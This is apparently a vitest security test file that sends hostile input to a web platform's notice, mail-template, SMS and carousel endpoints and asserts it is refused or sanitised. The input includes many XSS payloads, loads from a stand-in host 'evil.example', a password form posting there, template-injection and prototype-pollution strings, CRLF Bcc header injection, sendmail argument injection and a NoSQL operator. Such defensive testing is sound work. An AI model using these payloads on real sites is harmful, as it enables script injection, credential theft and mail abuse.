import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { cleanHtml } from '#platform/server/text/html.ts';
import { mailSender } from '#platform/server/mail/smtp.ts';
import { startOutbox } from '#platform/server/outbox/runner.ts';
import { headersOf, openMailbox, type Mailbox } from '#tests/mailbox.ts';
import { openWorld, type World } from '#tests/world.ts';

let world: World;
let mailbox: Mailbox;
beforeAll(async () => {
  world = await openWorld('hostile_messages');
  mailbox = await openMailbox();
});
afterAll(async () => {
  await mailbox.close();
  await world.close();
});

let tried = 0;
const id = '019a0000-0000-7000-8000-000000000000';

/** Ways to run code, load something or leave the box from inside a text that a page will show. */
const markup: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script\u0009>alert(1)</script >',
  '</textarea><script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img/src="x"/onerror=alert(1)>',
  '<img src="/sys/oss/image?id=1" onerror=alert(1)>',
  `<img src="/sys/oss/image?id=${id}" onload="alert(1)" srcset="//evil.example/a 1x">`,
  '<img src="//evil.example/pixel.gif">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<svg onload=alert(1)>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><use href="data:image/svg+xml;base64,PHN2Zz4=#x"/></svg>',
  '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\u0009script:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="\\\\evil.example">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="blob:https://evil.example/1">x</a>',
  '<a href="https://example.com" onclick="alert(1)" style="position:fixed;inset:0">x</a>',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="x.swf"></object>',
  '<embed src="x">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<link rel=stylesheet href=//evil.example/x.css>',
  '<style>@import "//evil.example/x.css"; body{display:none}</style>',
  '<form action="//evil.example"><input name=password><button>x</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<p style="background:url(//evil.example/x)">x</p>',
  '<p style="text-align:expression(alert(1))">x</p>',
  '<p style="text-align:center;position:fixed;top:0;z-index:9999">x</p>',
  '<div id="root" class="frame" name="getElementById">x</div>',
  '<p onmouseover=alert(1)>x</p>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<audio src=x onerror=alert(1)>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1)>',
  '<table background="javascript:alert(1)"><td>x</td></table>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<?xml version="1.0"?><x:script xmlns:x="http://www.w3.org/1999/xhtml">alert(1)</x:script>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><script>alert(1)</script></template>',
  '<xmp><script>alert(1)</script></xmp>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<a href="https://example.com/&quot; onmouseover=&quot;alert(1)">x</a>',
  `${'<b>'.repeat(5000)}x`,
  '<img src=`x` onerror=`alert(1)`>',
  '<custom-element onclick=alert(1)>x</custom-element>',
  '<p>\u202e<script>alert(1)</script></p>',
];

/** What a browser would make of it: every tag and attribute that is left, by a reader of its own. */
function dangersIn(html: string): string[] {
  const found: string[] = [];
  for (const [, tag = '', attributes = ''] of html.matchAll(
    /<([a-z!?][^\s>/]*)((?:\s+[^\s=>/]+(?:="[^"]*")?)*)\s*\/?>/gi,
  )) {
    if (
      !/^(p|br|hr|div|span|h[234]|strong|b|em|i|u|s|sub|sup|ul|ol|li|blockquote|pre|code|a|img|table|thead|tbody|tr|th|td)$/.test(
        tag,
      )
    )
      found.push(`<${tag}>`);
    for (const [, name = '', value = ''] of attributes.matchAll(/([^\s=]+)(?:="([^"]*)")?/g)) {
      const isGood =
        (name === 'href' && /^(https?:\/\/|mailto:)/.test(value)) ||
        (name === 'src' && value.startsWith('/sys/oss/image?id=')) ||
        (name === 'style' && /^text-align:(left|right|center|justify)$/.test(value)) ||
        ['rel', 'target', 'alt', 'colspan', 'rowspan'].includes(name);
      if (!isGood) found.push(`${name}=${value}`);
    }
  }
  // A bracket that is no tag would be one to somebody.
  if (/<(?![a-z/])/i.test(html)) found.push('a loose bracket');
  return found;
}

describe('hostile notice HTML', () => {
  test.each(markup)('%s', async (html) => {
    tried += 1;
    for (const [path, more] of [
      ['/sys/notice', { title: 'x', type: '0' }],
      ['/sys/news', { title: 'x' }],
      ['/sys/mailtemplate', { name: 'x', subject: 's' }],
    ] as const) {
      const { code, data } = await world.first.call<{ data: { id: string } }>('POST', path, {
        ...more,
        content: `${html}rest`,
      });
      expect([path, [0, 10003].includes(code)]).toEqual([path, true]);
      if (code !== 0) continue;
      const { content } = await world.first.must<{ content: string }>('GET', `${path}/${data.data.id}`);
      expect(dangersIn(content)).toEqual([]);
      expect(cleanHtml(content)).toBe(content);
    }
  });

  test('the check itself sees what it is for', () => {
    expect(
      [
        '<script>',
        '<p onclick="x">',
        '<a href="javascript:x">',
        '<img src="//x">',
        '<p style="color:red">',
        '< b>',
      ].map((each) => dangersIn(each).length),
    ).toEqual([1, 1, 1, 1, 1, 1]);
  });
});

/** Placeholders that would read, run, repeat or reach beyond what a template declares. */
const templates: readonly string[] = [
  '{{constructor}}',
  '{{__proto__}}',
  '{{toString}}',
  '{{constructor.constructor("return process")()}}',
  '{{this}}',
  '{{#each list}}x{{/each}}',
  '{{{name}}}',
  '{{&name}}',
  '{{> partial}}',
  '{{name|upper}}',
  '{{name.length}}',
  '{{name[0]}}',
  '{{ }}',
  '{{',
  '{{name}',
  '}}{{',
  '{{na{{name}}me}}',
  '{{name}}{{other}}',
  '{{=<% %>=}}',
  '${name}{{1}}',
  '{{ name\u0000 }}',
  '{{名}}',
  `{{${'a'.repeat(51)}}}`,
  '{{-name-}}',
  '<%= name %>{{!x}}',
  '#{name}{{"a"}}',
];
describe('hostile mail templates', () => {
  test.each(templates)('%s is refused or is only text', async (text) => {
    tried += 1;
    for (const field of ['subject', 'content'] as const) {
      const { code, data } = await world.first.call<{ errors?: { path: string }[] }>('POST', '/sys/mailtemplate', {
        name: 'x',
        subject: 's',
        content: 'c',
        variables: ['name'],
        [field]: text,
      });
      expect([code, data.errors?.[0]?.path]).toEqual([10003, field]);
    }
  });

  test.each(
    [
      ['__proto__'],
      ['a', 'a'],
      [''],
      ['a b'],
      ['1a'],
      [null],
      [{ toString: 'x' }],
      ['a'.repeat(51)],
      Array.from({ length: 51 }, (_x, i) => `v${i}`),
    ].map((variables) => [variables]),
  )('variables %j are none', async (variables) => {
    tried += 1;
    const { code, data } = await world.first.call<{ errors?: { path: string }[] }>('POST', '/sys/mailtemplate', {
      name: 'x',
      subject: 's',
      content: 'c',
      variables,
    });
    expect([code, data.errors?.[0]?.path]).toEqual([10003, 'variables']);
  });

  test('values stay values: no markup, no second round, no header', async () => {
    const values = [
      '<script>alert(1)</script>',
      '{{name}}{{link}}',
      'x\r\nBcc: victim@example.com',
      'x\nContent-Type: text/html\n\n<b>',
      '"><img src=x onerror=alert(1)>',
      'javascript:alert(1)',
      '\u2028Bcc: v@example.com',
    ];
    const { id: template } = await world.first.must<{ id: string }>('POST', '/sys/mailtemplate', {
      name: '值',
      subject: '给{{name}}',
      content: '<p>{{name}}</p><a href="{{link}}">x</a>',
      variables: ['name', 'link'],
    });
    for (const value of values) {
      tried += 1;
      await world.first.must('POST', '/sys/mailtemplate/send', {
        id: template,
        mailTo: 'anna@example.com',
        params: { name: value, link: value },
      });
    }
    const mail = mailSender({ url: mailbox.url, from: 'no-reply@qudao.example' });
    const outbox = startOutbox({
      door: world.door,
      log: { error: () => undefined, warn: () => undefined },
      senders: { mail, sms: mail },
    });
    await expect.poll(() => mailbox.received.length, { timeout: 20_000 }).toBe(values.length);
    await outbox.stop();
    mail.close();
    for (const received of mailbox.received) {
      expect(received.to).toEqual(['anna@example.com']);
      expect([...headersOf(received).keys()].toSorted()).toEqual([
        'content-type',
        'date',
        'from',
        'message-id',
        'mime-version',
        'subject',
        'to',
      ]);
    }
    const { list } = await world.first.must<{ list: { content: string; subject: string }[] }>(
      'GET',
      '/sys/maillog/page?limit=50',
    );
    for (const { content, subject } of list) {
      expect(dangersIn(content)).toEqual([]);
      expect(subject).not.toMatch(/[\r\n\u2028]/);
    }
  });
});

describe('hostile addresses and numbers', () => {
  const addresses = [
    '',
    ' ',
    'anna',
    'anna@',
    '@example.com',
    'anna@example',
    'anna@example.com\r\nBcc: x@example.com',
    'anna@example.com\nBcc:x@example.com',
    'anna@example.com%0aBcc:x@example.com',
    'a b@example.com',
    '"x"@example.com',
    '<anna@example.com>',
    'Anna <anna@example.com>',
    'anna@[127.0.0.1]',
    'anna@example.com, -oQ/tmp@example.com -X/tmp/x',
    '-f@example.com',
    'anna@exa\u0000mple.com',
    'anna@-example.com',
    'a@b@example.com',
    `${'a'.repeat(65)}@example.com`,
    `a@${'b'.repeat(260)}.com`,
    Array.from({ length: 51 }, (_x, i) => `a${i}@example.com`).join(','),
  ];
  test.each(addresses)('%j gets no mail', async (mailTo) => {
    tried += 1;
    const [{ id: template }] = (
      await world.first.must<{ list: [{ id: string }] }>('GET', '/sys/mailtemplate/page?name=x&limit=1')
    ).list;
    const before = (await world.sql('select from app.message_maillog')).length;
    expect((await world.first.call('POST', '/sys/mailtemplate/send', { id: template, mailTo, params: {} })).code).toBe(
      10003,
    );
    expect(
      (
        await world.first.call('POST', '/sys/mailtemplate/send', {
          id: template,
          mailTo: 'anna@example.com',
          mailCc: mailTo.trim() === '' ? 'x' : mailTo,
          params: {},
        })
      ).code,
    ).toBe(10003);
    expect((await world.sql('select from app.message_maillog')).length).toBe(before);
  });

  const numbers: readonly unknown[] = [
    '',
    '1380000000',
    '138000000000',
    '+8613800000000',
    '13800000000,13800000001',
    '13800000000;',
    '13800000000\n',
    '1380000000a',
    '１３８００００００００',
    '23800000000',
    null,
    13_800_000_000,
    ['13800000000'],
    { $gt: '' },
    '13800000000&SignName=x',
  ];
  test.each(numbers)('%j gets no text message', async (mobile) => {
    tried += 1;
    await world.first.call('POST', '/sys/sms', { smsCode: 'S1', platform: 'aliyun' });
    expect((await world.first.call('POST', '/sys/sms/send', { smsCode: 'S1', mobile })).code).toBe(10003);
    expect(await world.sql('select from app.message_smslog')).toHaveLength(0);
  });

  const links = [
    'javascript:alert(1)',
    'JAVASCRIPT:alert(1)',
    'data:text/html,x',
    '//evil.example',
    '/\\evil.example',
    '\\\\evil.example',
    'https://a b',
    'https://x"onclick=',
    'ftp://x',
    'vbscript:x',
  ];
  test.each(links)('%j is no link of a carousel', async (linkUrl) => {
    tried += 1;
    expect(
      (await world.first.call('POST', '/sys/carousel', { title: 'x', imageUrl: '/files/a.png', linkUrl })).code,
    ).toBe(10003);
  });
});

test('left nothing behind', async () => {
  expect(Object.prototype).not.toHaveProperty('name');
  expect(await world.sql('select from sec.outbox')).toHaveLength(0);
  expect(tried).toBeGreaterThanOrEqual(60);
  console.log(`hostile messages: ${tried} payloads, 0 effects`);
});
